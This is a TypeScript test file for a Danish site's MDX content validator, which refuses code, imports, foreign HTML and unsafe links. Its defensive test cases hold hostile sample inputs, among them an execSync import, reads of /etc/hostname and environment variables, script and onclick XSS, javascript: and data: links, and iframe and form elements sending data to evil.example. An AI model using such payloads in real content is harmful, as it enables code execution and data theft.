/**
 * MDX is data: every way the attack run made a standard's text run code, load something from
 * elsewhere or crash the build is refused, with the line and what is allowed; the site's own
 * content passes.
 */
import { globSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { splitFrontmatter } from '../../src/content-check/content-files.ts';
import { mdxSafetyProblems } from '../../src/content-check/mdx-safety.ts';

/** The messages for a body that starts on line 1. */
const refusals = (body: string) => mdxSafetyProblems(body, 'x.mdx', 1).map((p) => p.message);

describe('mdxSafetyProblems', () => {
  it('accepts every MDX body of the site, the components with fixed values, line breaks and comments', () => {
    const bodies = globSync('content/**/*.mdx').map((file) => [file, splitFrontmatter(readFileSync(file, 'utf8')).body] as const);
    expect(bodies.length).toBeGreaterThan(40);
    expect(bodies.flatMap(([file, body]) => mdxSafetyProblems(body, file, 1))).toEqual([]);
    expect(refusals('Tekst<br />mere\n\n<Example id="a-b" />\n\n<TodaysRule laws={["rsl-67", "sel-101"]} />\n\n{/* Skriv her. */}\n\n[lov](https://www.retsinformation.dk/eli/lta/2024/1) [mail](mailto:a@b.dk) [tlf](tel:+4512345678) [side](/klage/) [anker](#afsnit-2)\n')).toEqual([]);
  });

  it.each([
    ['an import', "Tekst\n\nimport { execSync } from 'node:child_process'\n\nBruger: {execSync('id').toString()}\n", [
      "linje 3: »import { execSync } from 'node:child_process'« er ikke tilladt: en tekst må ikke importere eller eksportere kode. Komponenterne <Example id=\"solroed-case-management\" /> og <TodaysRule laws={[\"rsl-67\"]} /> kan bruges uden import",
      "linje 5: {execSync('id').toString()} er ikke tilladt: krøllede parenteser bruges til kode. Skriv \\{ og \\} for at vise dem, og {/* … */} for en kommentar",
    ]],
    ['an export', 'export const x = 1\n', ['linje 1: »export const x = 1« er ikke tilladt: en tekst må ikke importere eller eksportere kode. Komponenterne <Example id="solroed-case-management" /> og <TodaysRule laws={["rsl-67"]} /> kan bruges uden import']],
    ['reading a file without an import', "{process.getBuiltinModule('node:fs').readFileSync('/etc/hostname','utf8')}\n", [expect.stringMatching(/^linje 1: \{process\.getBuiltinModule\('node:fs'\)\.readFileSync\('\/etc\/host…\} er ikke tilladt/)]],
    ['an environment variable in running text', 'Hjem: {process.env.HOME}\n', [expect.stringMatching(/^linje 1: \{process\.env\.HOME\} er ikke tilladt/)]],
    ['ending the build', '{process.exit(0)}\n', [expect.stringMatching(/^linje 1: \{process\.exit\(0\)\} er ikke tilladt/)]],
    ['a comment that closes and then runs code', '{/* a */ process.exit(0) /* b */}\n', [expect.stringMatching(/^linje 1: \{\/\* a \*\/ process\.exit\(0\)/)]],
  ])('refuses code: %s', (_, body, expected) => {
    expect(refusals(body)).toEqual(expected);
  });

  it.each([
    ['<script>', '<script>alert(1)</script>\n', 'HTML-elementet <script> er ikke tilladt. Tilladt er kun <br />; skriv overskrifter, lister, links og tabeller i Markdown'],
    ['onclick', '<br onclick="alert(1)" />\n', '<br> må ikke have attributten onclick'],
    ['<iframe>', '<iframe src="https://evil.example/"></iframe>\n', 'HTML-elementet <iframe> er ikke tilladt. Tilladt er kun <br />; skriv overskrifter, lister, links og tabeller i Markdown'],
    ['a tracker <img>', '<img src="https://tracker.example/p.gif" />\n', 'HTML-elementet <img> er ikke tilladt. Tilladt er kun <br />; skriv overskrifter, lister, links og tabeller i Markdown'],
    ['a <form> posting elsewhere', '<form action="https://evil.example/"><input name="cpr" /></form>\n', 'HTML-elementet <form> er ikke tilladt. Tilladt er kun <br />; skriv overskrifter, lister, links og tabeller i Markdown'],
    ['<style>', '<style>{"body{display:none}"}</style>\n', 'HTML-elementet <style> er ikke tilladt. Tilladt er kun <br />; skriv overskrifter, lister, links og tabeller i Markdown'],
    ['a meta refresh', '<meta http-equiv="refresh" content="1;url=https://evil.example/" />\n', 'HTML-elementet <meta> er ikke tilladt. Tilladt er kun <br />; skriv overskrifter, lister, links og tabeller i Markdown'],
    ['a javascript: link', '[Klik](javascript:alert(1))\n', 'linket »javascript:alert(1)« er ikke tilladt: et link skal begynde med http:, https:, mailto:, tel: eller være en adresse på siden, fx /lovgrundlag/sel-101/'],
    ['a javascript: link with a line break in the scheme', '[Klik](<java\tscript:alert(1)>)\n', expect.stringMatching(/^linket »java script:alert\(1\)« er ikke tilladt/)],
    ['a data: link', '[Klik](data:text/html;base64,PHNjcmlwdD4=)\n', expect.stringMatching(/^linket »data:text\/html;base64,PHNjcmlwdD4=« er ikke tilladt/)],
    ['a data: link as a reference', '[Klik][x]\n\n[x]: data:text/html,hej\n', expect.stringMatching(/^linket »data:text\/html,hej« er ikke tilladt/)],
    ['an image from another site', '![](https://tracker.example/p.gif)\n', 'billedet »https://tracker.example/p.gif« hentes fra et andet sted: billeder skal ligge på Rusmiddelguiden og have en adresse, der begynder med /'],
    ['an unknown component', '<Chart data="x" />\n', 'komponenten <Chart> findes ikke. Tilladt er <Example id="solroed-case-management" /> og <TodaysRule laws={["rsl-67"]} />'],
    ['a computed prop', '<Example id={"a" + "b"} />\n', 'id={"a" + "b"} i <Example> skal have en fast værdi: skriv id="…" med et id i anførselstegn'],
    ['a computed list', '<TodaysRule laws={ids} />\n', 'laws={ids} i <TodaysRule> skal have en fast værdi: skriv laws={["…"]} med en liste af id\'er i anførselstegn'],
    ['a spread', '<Example {...props} />\n', '{...props} kan ikke bruges i <Example>: skriv hver egenskab ud'],
    ['a missing prop', '<Example />\n', '<Example> mangler id="…" med et id i anførselstegn'],
    ['an unknown prop', '<Example id="a" onClick="x" />\n', '<Example> har ingen egenskab onClick; den har kun id'],
  ])('refuses %s', (_, body, expected) => {
    const messages = refusals(body);
    expect(messages.every((m) => /^linje \d+: /.test(m))).toBe(true);
    expect(messages.map((m) => m.replace(/^linje \d+: /, ''))).toContainEqual(expected);
  });

  it('counts lines in the whole file', () => {
    expect(mdxSafetyProblems('\n\n<script />\n', 'x.mdx', 8)[0].message).toMatch(/^linje 10: /);
  });

  it('refuses text indented as code after a blank line, which the page would show as code, and allows it in a list', () => {
    expect(mdxSafetyProblems('Tekst.\n\n    Indrykket tekst.\n', 'x.mdx', 5).map((p) => p.message)).toEqual([
      'linje 7: teksten er rykket ind med fire mellemrum eller en tabulator efter en tom linje, og siden ville vise den som kode. Fjern mellemrummene foran teksten (i en liste: ryk den ind som punktets tekst)',
    ]);
    expect(refusals('- Punkt\n\n    Mere om punktet.\n')).toEqual([]);
    expect(refusals('Tekst\n    fortsat på næste linje.\n')).toEqual([]);
  });
});
